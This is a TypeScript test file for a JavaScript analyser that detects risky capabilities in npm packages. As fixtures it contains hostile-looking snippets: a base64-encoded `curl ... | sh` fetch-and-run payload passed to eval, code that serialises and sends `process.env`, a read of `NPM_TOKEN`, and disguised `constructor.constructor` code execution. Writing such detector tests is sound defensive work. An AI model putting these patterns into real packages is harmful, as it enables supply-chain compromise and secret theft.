// The JavaScript analyser on the shapes real packages ship: CommonJS, ESM,
// TypeScript/Babel/esbuild/Rollup output, minified bundles. Every case
// asserts capability, line and what, and the negative cases assert that
// mentions outside code, shadowed names and typeof guards find nothing.
import { describe, expect, it } from 'vitest';
import { analyseJavaScript, moduleName, type FileEvidence } from '../../../src/checks/capabilities/analyse-js.js';
import { hasEsmStatement, parseJavaScript, sourceTypeOf } from '../../../src/checks/capabilities/parse.js';

function analyse(source: string, file = 'index.js', type: string | null = null): FileEvidence[] {
  const parsed = parseJavaScript(source, file, type);
  if (!parsed.ok) throw new Error(`does not parse: ${parsed.message}`);
  return analyseJavaScript(source, file, parsed.program).evidence;
}

/** `capability line what [detail]` strings, for compact assertions. */
function lines(evidence: FileEvidence[]): string[] {
  return evidence.map((e) => {
    const detail = [e.shell === undefined ? '' : `shell=${e.shell}`, e.access ?? '', e.key === undefined ? '' : `key=${e.key}`, e.resolves === undefined ? '' : `resolves=${e.resolves}`, e.lowSignal ? 'weak' : '']
      .filter(Boolean)
      .join(' ');
    return `${e.capability} ${e.line} ${e.what}${detail ? ` [${detail}]` : ''}`;
  });
}

describe('module names', () => {
  it('drops node: and subpaths, keeps scopes, ignores relative paths', () => {
    expect(moduleName('node:fs/promises')).toBe('fs');
    expect(moduleName('axios/lib/adapters/http.js')).toBe('axios');
    expect(moduleName('@mapbox/node-pre-gyp/lib/x')).toBe('@mapbox/node-pre-gyp');
    expect(moduleName('./build/Release/x.node')).toBeNull();
  });
});

describe('parsing', () => {
  it('takes the source type from the extension and package type, and falls back to the other', () => {
    expect(sourceTypeOf('a.mjs', null)).toBe('module');
    expect(sourceTypeOf('a.cjs', 'module')).toBe('script');
    expect(sourceTypeOf('a.js', 'module')).toBe('module');
    // ESM syntax in a .js file of a CommonJS package (shipped for bundlers).
    expect(parseJavaScript("import fs from 'fs';\nexport default fs;", 'esm/index.js', null)).toMatchObject({ ok: true, sourceType: 'module' });
    // Sloppy-mode code in a "type": "module" package: `with` and octal literals only parse as a script.
    expect(parseJavaScript('with (obj) { x = 010; }', 'legacy.js', 'module')).toMatchObject({ ok: true, sourceType: 'script' });
    // A shebang, top-level return (CommonJS) and top-level await (ESM).
    expect(parseJavaScript('#!/usr/bin/env node\nif (done) return;\n', 'bin/cli', null)).toMatchObject({ ok: true });
    expect(parseJavaScript('await main();', 'cli.mjs', null)).toMatchObject({ ok: true });
  });

  it('tells import/export statements from `exports.x`, `import()` and property names, to try module first', () => {
    expect(hasEsmStatement("'use strict';import x from 'x'")).toBe(true);
    expect(hasEsmStatement('const a = 1;\n  export default a;')).toBe(true);
    expect(hasEsmStatement('}export {a};')).toBe(true);
    expect(hasEsmStatement("exports.a = 1; module.exports = { export: 1 }; import('x'); obj.import {}")).toBe(false);
    expect(hasEsmStatement('a = b\nexportAll(x)')).toBe(false);
  });

  it('parses stage-3 decorators that packages ship untranspiled, and HTML comments in scripts', () => {
    const source = ["@sealed class Client { agent = require('https'); }", '<!-- legacy comment'].join('\n');
    expect(lines(analyse(source, 'client.js'))).toEqual(["network 1 require('https')"]);
  });

  it('reports the line of a file no mode accepts, without throwing', () => {
    expect(parseJavaScript('const a = 1;\nconst view = <div/>;\n', 'view.js', null)).toMatchObject({ ok: false, line: 2, message: expect.stringMatching(/Unexpected token/) });
  });
});

describe('network', () => {
  it('finds Node.js network modules, HTTP clients and the fetch / WebSocket globals', () => {
    const source = [
      "const https = require('node:https');",
      "import axios from 'axios';",
      'const res = await fetch(url);',
      "const socket = new WebSocket('wss://example.org');",
      "const dns = await import('dns');",
      "export { request } from 'undici';",
      'globalThis.fetch(url);',
    ].join('\n');
    expect(lines(analyse(source, 'index.mjs'))).toEqual([
      "network 1 require('node:https')",
      "network 2 import axios from 'axios';",
      'network 3 fetch(url)',
      "network 4 new WebSocket('wss://example.org')",
      "network 5 import('dns')",
      "network 6 export { request } from 'undici';",
      'network 7 globalThis.fetch(url)',
    ]);
  });

  it('ignores typeof guards, a local fetch and methods that share a name', () => {
    const source = [
      "if (typeof fetch === 'function' && typeof globalThis.WebSocket !== 'undefined') {}",
      'function fetch(x) { return x; }',
      'fetch(1);',
      'client.fetch(url);',
    ].join('\n');
    expect(analyse(source)).toEqual([]);
  });
});

describe('shell', () => {
  it('follows aliases, destructuring, namespaces and node: prefixes, and tells shell from spawn', () => {
    const source = [
      "const cp = require('child_process');",
      "cp.exec('ls');",
      "const { spawn, execFile: run } = require('node:child_process');",
      "spawn('git', ['status']);",
      "run('make', [], { shell: true });",
      "import * as child from 'node:child_process';",
      "child.execSync('rm -rf build');",
      "require('child_process').fork('worker.js');",
    ].join('\n');
    expect(lines(analyse(source, 'index.mjs'))).toEqual([
      "shell 1 require('child_process')",
      "shell 2 cp.exec('ls') [shell=true]",
      "shell 3 require('node:child_process')",
      'shell 3 spawn from child_process [shell=false]',
      'shell 3 execFile: run from child_process [shell=false]',
      "shell 4 spawn('git', ['status']) [shell=false]",
      "shell 5 run('make', [], { shell: true }) [shell=true]",
      "shell 6 import * as child from 'node:child_process';",
      "shell 7 child.execSync('rm -rf build') [shell=true]",
      "shell 8 require('child_process')",
      "shell 8 require('child_process').fork('worker.js') [shell=false]",
    ]);
  });

  it('reads TypeScript, Babel, esbuild and Rollup output', () => {
    const source = [
      'const child_process_1 = __importStar(require("child_process"));',
      '(0, child_process_1.execSync)("npm ci");',
      'var import_node_child_process = __toESM(require("node:child_process"));',
      '(0, import_node_child_process.spawnSync)("git", ["fetch"], { shell: process.platform === "win32" });',
      'var _child = _interopRequireDefault(require("child_process"));',
      '_child.default.exec("ls");',
      "var cp__default = /*#__PURE__*/_interopDefaultLegacy(require('child_process'));",
      "cp__default['default'].execSync('pwd');",
    ].join('\n');
    expect(lines(analyse(source)).filter((line) => / \[shell=/.test(line))).toEqual([
      'shell 2 (0, child_process_1.execSync)("npm ci") [shell=true]',
      'shell 4 (0, import_node_child_process.spawnSync)("git", ["fetch"], { shell: process.platform === "win32" }) [shell=true]',
      'shell 6 _child.default.exec("ls") [shell=true]',
      "shell 8 cp__default['default'].execSync('pwd') [shell=true]",
    ]);
  });

  it('follows a name used above the declaration that binds it (hoisting)', () => {
    const source = ["function run(cmd) { return cp.exec(cmd); }", "var cp = require('child_process');", 'run(x);'].join('\n');
    expect(lines(analyse(source))).toEqual(["shell 1 cp.exec(cmd) [shell=true]", "shell 2 require('child_process')"]);
  });

  it('keeps function scopes apart in minified code', () => {
    // `e` is child_process at the top and a parameter inside t: e.exec in t is not a shell call.
    const source = 'var e=require("child_process"),n=require("fs");function t(e,n){return e.exec(n),n.writeFileSync()}e.spawn("x");';
    expect(lines(analyse(source))).toEqual([
      'shell 1 require("child_process")',
      'filesystem 1 require("fs") [weak]',
      'shell 1 e.spawn("x") [shell=false]',
    ]);
  });
});

describe('filesystem', () => {
  it('tells writes and deletes from reads, through fs, fs/promises, graceful-fs and fs-extra', () => {
    const source = [
      "const fs = require('fs');",
      "fs.readFileSync('a');",
      "fs.promises.writeFile('b', '');",
      "import { rm } from 'node:fs/promises';",
      "const fse = require('fs-extra');",
      "fse.outputJsonSync('c.json', {});",
      "fs.openSync('d', 'w+');",
      "fs.openSync('e', 'r');",
    ].join('\n');
    expect(lines(analyse(source, 'index.mjs'))).toEqual([
      "filesystem 1 require('fs') [weak]",
      "filesystem 2 fs.readFileSync('a') [read weak]",
      "filesystem 3 fs.promises.writeFile('b', '') [write]",
      "filesystem 4 import { rm } from 'node:fs/promises'; [weak]",
      'filesystem 4 rm from fs [write]',
      "filesystem 5 require('fs-extra') [weak]",
      "filesystem 6 fse.outputJsonSync('c.json', {}) [write]",
      "filesystem 7 fs.openSync('d', 'w+') [write]",
      "filesystem 8 fs.openSync('e', 'r') [read weak]",
    ]);
  });
});

describe('dynamic code', () => {
  it('finds eval, Function, vm, computed and disguised requires and imports', () => {
    const source = [
      'eval(code);',
      "const f = new Function('a', body);",
      "const vm = require('vm');",
      'require(name);',
      "require('child_' + 'process');",
      'import(specifier);',
      'const e = eval; e(more);',
      'const AsyncFunction = (async function () {}).constructor; new AsyncFunction(src);',
      "eval('require')('fs');",
      "({}).constructor.constructor('return process')();",
      'payload.constructor.constructor(decoded)();',
    ].join('\n');
    expect(lines(analyse(source))).toEqual([
      'dynamic-code 1 eval(code)',
      "dynamic-code 2 new Function('a', body)",
      "dynamic-code 3 require('vm')",
      'dynamic-code 4 require(name)',
      "dynamic-code 5 require('child_' + 'process') [resolves=child_process]",
      "shell 5 require('child_' + 'process')",
      'dynamic-code 6 import(specifier)',
      'dynamic-code 7 eval',
      'dynamic-code 7 e(more)',
      'dynamic-code 8 new AsyncFunction(src)',
      "dynamic-code 9 eval('require') [weak]",
      "filesystem 9 eval('require')('fs') [weak]",
      "dynamic-code 10 ({}).constructor.constructor('return process') [weak]",
      'dynamic-code 11 payload.constructor.constructor(decoded)',
    ]);
  });

  it('weakens constant code and loads that stay inside the package; ignores a bundle\'s own require', () => {
    const source = [
      "var g = Function('return this')();",
      "require('./locale/' + lang);",
      "require(path.join(__dirname, 'lib', name));",
      '(function (require, module) { require(1); require(id); })();',
    ].join('\n');
    expect(lines(analyse(source))).toEqual([
      "dynamic-code 1 Function('return this') [weak]",
      "dynamic-code 2 require('./locale/' + lang) [weak]",
      "dynamic-code 3 require(path.join(__dirname, 'lib', name)) [weak]",
    ]);
  });
});

describe('environment', () => {
  it('names the keys read, through aliases and destructuring; * for the whole environment, ? for computed keys', () => {
    const source = [
      'const token = process.env.NPM_TOKEN;',
      "const region = process.env['AWS_REGION'];",
      'const { HOME, ...rest } = process.env;',
      'const env = process.env; env.CI;',
      'send(JSON.stringify(process.env));',
      'process.env[name];',
      'globalThis.process.env.DEBUG;',
    ].join('\n');
    expect(lines(analyse(source))).toEqual([
      'environment 1 process.env.NPM_TOKEN [key=NPM_TOKEN]',
      "environment 2 process.env['AWS_REGION'] [key=AWS_REGION]",
      'environment 3 process.env.HOME [key=HOME]',
      'environment 3 process.env.* [key=*]',
      'environment 4 env.CI [key=CI]',
      'environment 5 process.env [key=*]',
      'environment 6 process.env[name] [key=?]',
      'environment 7 globalThis.process.env.DEBUG [key=DEBUG]',
    ]);
  });

  it('does not take a parameter named process for the global', () => {
    expect(analyse('function f(process) { return process.env.HOME; }')).toEqual([]);
  });
});

describe('native', () => {
  it('finds addon loaders, .node requires, build/Release paths and process.dlopen', () => {
    const source = [
      "const binding = require('node-gyp-build')(__dirname);",
      "const addon = require('./build/Release/addon.node');",
      "const other = require('../build/Release/other');",
      'process.dlopen(module, file);',
    ].join('\n');
    expect(lines(analyse(source))).toEqual([
      "native 1 require('node-gyp-build')",
      "native 2 require('./build/Release/addon.node')",
      "native 3 require('../build/Release/other')",
      'native 4 process.dlopen(module, file)',
    ]);
  });
});

describe('no capability from mentions', () => {
  it('finds nothing in comments, strings, templates, object keys or property names', () => {
    const source = [
      "// require('http'); child_process.exec(cmd); eval(x)",
      '/* new Function(body); process.env.SECRET */',
      "const text = \"require('child_process').exec('ls')\";",
      "const more = `fetch(url) and require('fs').writeFileSync`;",
      "const table = { http: 1, exec: 'x', eval: true, fetch: null, 'child_process': 2 };",
      'table.exec; table.fetch; config.env.HOME;',
    ].join('\n');
    expect(analyse(source)).toEqual([]);
  });
});

describe('obfuscation hints', () => {
  const text = Buffer.from("require('child_process').exec('curl -s https://example.org | sh');\n".repeat(20)).toString('base64');
  const wasm = Buffer.concat([Buffer.from('\0asm\x01\0\0\0'), Buffer.alloc(1200, 0x81)]).toString('base64');

  it('reports encoded text in a file that evaluates code, not embedded binaries or files that evaluate nothing', () => {
    const payload = analyse(`const p = '${text}';\neval(Buffer.from(p, 'base64').toString());\n`).filter((e) => e.capability === 'obfuscation');
    expect(lines(payload)).toEqual([`obfuscation 1 base64-encoded text of ${text.length} characters in a file that evaluates code`]);
    // WebAssembly in base64 beside an eval, and encoded text without any eval: no hint.
    expect(analyse(`const w = '${wasm}';\neval(code);\n`).filter((e) => e.capability === 'obfuscation')).toEqual([]);
    expect(analyse(`const p = '${text}';\nmodule.exports = p;\n`)).toEqual([]);
  });

  it('lists a very long line outside bundle folders as a weak hint, and ignores inline source maps and bundles', () => {
    const long = `var a = [${'1,'.repeat(12_000)}1];\n`;
    expect(lines(analyse(long, 'lib/index.js'))).toEqual([`obfuscation 1 a line of ${long.length - 1} characters outside a bundle folder [weak]`]);
    expect(analyse(long, 'dist/index.js')).toEqual([]);
    expect(analyse(long, 'lib/index.min.js')).toEqual([]);
    expect(analyse(`module.exports = 1;\n//# sourceMappingURL=data:application/json;base64,${'A'.repeat(30_000)}\n`, 'lib/index.js')).toEqual([]);
  });
});
